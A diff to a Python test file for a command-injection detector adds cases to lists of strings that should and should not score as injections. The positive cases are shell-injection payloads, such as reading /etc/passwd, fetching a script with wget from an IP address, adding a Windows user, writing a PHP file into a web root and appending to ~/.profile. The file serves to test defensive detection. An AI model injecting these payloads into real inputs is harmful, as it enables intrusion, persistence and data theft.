@@ -16,6 +16,7 @@ def strongest(text: str) -> float:
     "; cat /etc/passwd", "| id", "`whoami`", "x`id`", "127.0.0.1 && ping -c 4 10.0.0.1", "x; ls -la",
     "name=$(uname -a)", "'; wget http://198.51.100.7/x.sh", "abc || sleep 5", "8.8.8.8|nslookup example.org",
     "&& net user mallory /add", "| net view //fileserver", "1;cat<<<x", "system('id')", "passthru(\"whoami\")",
+    "& echo owned > /var/www/x.php", "$(net users)", "x\nuname", "\nls #", "\"\necho a >> ~/.profile",
 ])
 def test_injections(text: str) -> None:
     assert strongest(text) >= 0.85, commands(text.lower())
@@ -26,6 +27,7 @@ def test_injections(text: str) -> None:
     "e.g., `grep -v x file | sort`", "Terms & conditions; see section 3", "I am tired; sleep is needed",
     "| id | name | email |", "https://shop.example/?a=1&id=2", "rock & roll", "cd ../../ then make",
     "thanks\ncat pictures are the best", "find . -name '*.py' | xargs wc -l",
+    "fine; echo that back to me", "ok\necho chamber > echo",
 ])
 def test_not_injections(text: str) -> None:
     assert strongest(text) < 0.5, commands(text.lower())
